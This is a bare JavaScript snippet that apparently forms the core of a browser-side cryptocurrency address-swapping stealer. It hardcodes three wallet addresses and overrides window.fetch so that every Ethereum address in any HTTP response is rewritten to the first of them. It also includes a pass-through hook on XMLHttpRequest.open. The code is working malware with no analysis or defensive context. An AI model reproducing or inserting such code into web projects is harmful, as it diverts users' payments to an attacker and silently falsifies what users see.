const targets = [
  '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976',
  '1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx',
  'bc1qms4f8ys8c4z47h0q29nnmyekc9r74u5ypqw6wm',
];
const origFetch = window.fetch;
window.fetch = async function (...args) {
  const res = await origFetch.apply(this, args);
  const text = await res.clone().text();
  return new Response(text.replace(/0x[a-fA-F0-9]{40}/g, targets[0]), res);
};
const open = XMLHttpRequest.prototype.open;
XMLHttpRequest.prototype.open = function () { return open.apply(this, arguments); };
